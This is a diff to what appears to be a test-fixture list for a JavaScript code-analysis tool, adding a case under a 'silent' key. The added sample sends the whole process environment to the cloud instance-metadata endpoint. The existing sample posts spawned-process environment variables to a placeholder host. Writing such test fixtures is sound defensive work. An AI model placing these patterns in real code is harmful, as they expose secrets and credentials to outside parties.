@@ -594,6 +594,12 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
   ],
   silent: [
     {
+      when: 'a client of a cloud asks the service that gives a machine its keys',
+      files: {
+        'index.js': `exports.keys = async (env = process.env) => (await fetch('http://169.254.169.254/latest/api/token', { method: 'PUT', headers: { region: JSON.stringify(env) } })).text();`,
+      },
+    },
+    {
       when: 'what one function puts into its options has the name of something that another is handed',
       files: {
         'index.js': `exports.configure = options => { options.env = { ...process.env }; return require('child_process').spawn('node', ['x.js'], options); }; exports.report = event => fetch('https://ingest.invalid/v1', { method: 'POST', body: JSON.stringify(event.env) });`,
